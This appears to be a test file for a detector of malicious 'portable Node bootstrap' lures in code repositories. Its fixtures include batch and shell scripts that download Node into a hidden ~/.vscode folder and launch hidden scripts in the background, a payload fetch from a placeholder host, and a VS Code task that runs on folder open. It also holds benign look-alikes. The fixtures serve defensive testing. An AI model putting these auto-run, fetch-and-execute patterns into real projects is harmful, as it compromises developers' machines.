import { openTask, testLures } from '../../../test/support/lures.ts';
import detector from './portable-node-bootstrap.ts';

const bat =
  '@echo off\r\nwhere node >nul 2>&1 || curl -sL https://nodejs.org/dist/v20.11.1/node-v20.11.1-win-x64.zip -o "%USERPROFILE%\\.vscode\\n.zip"\r\ntar -xf "%USERPROFILE%\\.vscode\\n.zip"\r\nstart /min cmd /c "%USERPROFILE%\\.vscode\\node.exe" "%USERPROFILE%\\.vscode\\env-setup.js"\r\n';
const sh =
  '#!/bin/bash\nmkdir -p "$HOME/.vscode"\ncurl -s https://nodejs.org/dist/v20.0.0/node-v20.0.0-linux-x64.tar.xz -o "$HOME/.vscode/n.tar.xz"\ncd "$HOME/.vscode" && npm i --silent\nnohup node "$HOME/.vscode/env.js" > /dev/null 2>&1 &\n';

testLures(detector, {
  proof: {
    'started on opening': { '.vscode/tasks.json': openTask('sh ./tools/bootstrap.sh'), 'tools/bootstrap.sh': sh },
  },
  strong: {
    batch: { 'tools/token.cmd': bat },
    shell: { 'tools/tokenlinux.sh': sh },
    'payload only': {
      'a.sh': '#!/bin/sh\nwget -q https://fixture.invalid/p.js -O ~/.vscode/p.js\nnohup node ~/.vscode/p.js &\n',
    },
  },
  silent: {
    'version managers': {
      'scripts/install-node.sh':
        '#!/bin/sh\ncurl -fsSL https://nodejs.org/dist/v20.0.0/node-v20.0.0-linux-x64.tar.xz | tar -xJ -C /usr/local --strip-components=1\nnode --version\nnpm install\n',
    },
    dotfiles: {
      'install.sh':
        '#!/bin/sh\ncp settings.json ~/.config/Code/User/settings.json\ncurl -fsSL https://fixture.example/a.zsh -o ~/.config/a.zsh\nnode scripts/link.js\n',
    },
  },
});
